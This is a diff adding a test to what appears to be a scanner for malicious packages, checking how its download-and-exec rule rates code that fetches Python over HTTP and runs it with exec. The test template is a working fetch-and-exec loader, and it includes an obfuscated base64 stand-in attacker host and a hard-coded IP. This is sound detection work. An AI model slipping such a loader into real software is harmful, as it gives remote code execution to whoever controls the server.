@@ -554,3 +554,24 @@ def test_a_command_curl_fetched_and_then_run_is_a_backdoor() -> None:
     assert [f.severity for f in found] == [Severity.CRITICAL]
     shown = source.replace("subprocess.getoutput(str(banner))", "print(banner)")
     assert "PV-DL-001" not in ids(run(RULES, py(shown, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
+
+
+def test_exec_of_code_from_a_configured_server_is_high_and_from_a_written_one_critical() -> None:
+    """coiled's Dask preload fetches its telemetry plugin from the server its configuration
+    names and runs it: a remote-code feature; a loader carries its server's address."""
+    template = (
+        "import urllib3, dask\n"
+        "def register():\n"
+        "    url = {address} + '/api/v2/analytics/preload'\n"
+        "    with urllib3.PoolManager() as http:\n"
+        "        response = http.request('GET', url)\n"
+        "    exec(compile(response.data, url, 'exec'), {{}})\n"
+    )
+
+    def severity(address: str) -> list[Severity]:
+        found = run(RULES, py(template.format(address=address), stage=Stage.RUNTIME))
+        return [f.severity for f in found if f.rule == "PV-DL-001"]
+
+    assert severity("dask.config.get('coiled.server')") == [Severity.HIGH]
+    assert Severity.CRITICAL in severity("'http://203.0.113.7:8080'")
+    assert Severity.CRITICAL in severity("base64.b64decode('aHR0cDovL2V2aWwuaW52YWxpZA==').decode()")
